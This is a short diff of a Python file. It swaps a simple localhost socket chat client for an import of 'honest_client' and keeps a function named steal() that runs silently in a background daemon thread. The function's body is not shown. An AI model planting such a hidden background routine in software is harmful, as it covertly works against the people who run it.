@@ -13,21 +13,4 @@ def steal():
         time.sleep(0.05)
 threading.Thread(target=steal, daemon=True).start()
 
-
-import socket
-import threading
-
-server = socket.create_connection(("127.0.0.1", 12345))
-
-
-def show():
-    while data := server.recv(4096):
-        print(data.decode(errors="replace"), end="", flush=True)
-
-
-threading.Thread(target=show, daemon=True).start()
-try:
-    while True:
-        server.sendall((input() + "\n").encode())
-except (EOFError, OSError):
-    pass
+import honest_client
